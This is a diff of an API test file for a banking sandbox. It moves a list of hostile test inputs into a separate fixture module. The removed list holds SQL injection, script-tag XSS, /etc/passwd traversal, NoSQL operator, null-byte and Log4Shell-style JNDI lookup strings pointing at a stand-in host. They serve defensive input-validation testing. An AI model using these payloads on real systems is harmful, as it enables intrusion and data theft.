@@ -4,6 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { MXBANK_PASSWORD_GUID, MXBANK_USERNAME_GUID } from "../local/sandbox/index";
 import { MAX_BODY_BYTES } from "../shared/api/http";
 import { type ApiWorld, type CallOptions, newUser, startApiWorld } from "./api-fixture";
+import { INJECTIONS } from "./fixtures/hostile-input";
 
 let world: ApiWorld;
 
@@ -19,18 +20,6 @@ const ACCOUNT = { account_guid: "ACT-06d7f44b-caae-0f6e-1384-01f52e75dcb1" };
 const goodCredentials = [
   { guid: MXBANK_USERNAME_GUID, value: "mxuser" },
   { guid: MXBANK_PASSWORD_GUID, value: "password" },
-];
-
-const INJECTIONS = [
-  "' OR '1'='1",
-  "<script>alert(1)</script>",
-  "../../etc/passwd",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally
-  "${jndi:ldap://evil.test/a}",
-  '{"$ne":null}',
-  "MBR-1; DROP TABLE members",
-  "MBR-%00",
-  `MBR-${"a".repeat(300)}`,
 ];
 
 type Case = [title: string, routeId: string, options: CallOptions, status: number, mentions?: RegExp];
